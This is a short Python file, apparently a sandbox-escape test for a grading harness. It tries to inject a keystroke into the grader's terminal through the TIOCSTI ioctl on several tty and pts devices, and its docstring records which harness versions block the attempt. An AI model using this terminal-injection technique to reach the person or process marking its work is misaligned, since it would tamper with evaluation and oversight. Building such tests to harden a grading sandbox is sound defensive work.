"""Types a command into the terminal of whoever marks.
What stops it: standard input leads nowhere, /dev/tty is out of reach, and the worker's session has none.

Loses: 1.1.1, 1.1.2, 1.1.3
"""

import fcntl
import os


def attack():
    won = False
    for path in ("/dev/tty", "/dev/pts/0", "/dev/pts/1", "/dev/console", "/proc/self/fd/0", "/dev/ptmx"):
        try:
            terminal = os.open(path, os.O_RDWR)
            fcntl.ioctl(terminal, 0x5412, b"x")
            won = True
        except OSError:
            continue
    return won
